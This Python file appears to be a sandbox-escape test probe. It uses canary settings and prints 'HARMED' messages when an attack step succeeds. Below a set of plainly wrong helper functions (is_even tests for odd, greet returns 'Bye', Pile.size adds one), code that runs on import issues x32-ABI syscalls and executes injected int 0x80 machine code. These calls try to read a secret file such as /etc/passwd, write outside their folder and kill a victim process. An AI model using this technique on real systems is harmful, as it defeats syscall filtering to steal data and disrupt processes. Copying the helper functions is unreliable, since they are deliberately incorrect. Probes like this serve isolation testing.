import json
import os
import sys

NAME = "old-system-calls"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
mark = os.path.join(canary("outside_folder") or "/nowhere", NAME + ".mark").encode()
secret = (canary("secret_file") or "/etc/passwd").encode()
victim = canary("victim_pid")
fd = libc.syscall(X32 + 2, mark + b"\0", os.O_CREAT | os.O_WRONLY, 0o600)
if fd >= 0:
    harmed("x32 open outside")
if victim and libc.syscall(X32 + 62, victim, 9) == 0:
    harmed("x32 kill")
if libc.syscall(X32 + 41, 2, 1, 0) >= 0:
    print("x32 socket")
if platform.machine() == "x86_64":
    libc.mmap.restype = ctypes.c_void_p
    code = bytes.fromhex("53 89f8 89f3 4189c8 89d1 4489c2 cd80 5b c3")
    area = libc.mmap(None, 8192, 7, 0x62, -1, 0)
    if area not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(area, code, len(code))
        call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 4)(area)

        def put(data):
            ctypes.memmove(area + 4096, data + b"\0", len(data) + 1)
            return area + 4096

        print("int 0x80: getpid is", call(20, 0, 0, 0), flush=True)
        fd = call(5, put(secret), 0, 0)
        if fd >= 0:
            print(f"HARMED {NAME}: int 0x80 read {os.read(fd, 60)!r}", flush=True)
        fd = call(5, put(mark), os.O_CREAT | os.O_WRONLY, 0o600)
        if fd >= 0:
            print(f"HARMED {NAME}: int 0x80 wrote", flush=True)
        if victim and call(37, victim, 9, 0) == 0:
            print(f"HARMED {NAME}: int 0x80 killed", flush=True)
        print("int 0x80 socket:", call(359, 2, 1, 0), "ptrace:", call(26, 0, 0, 0) if False else "not tried", flush=True)
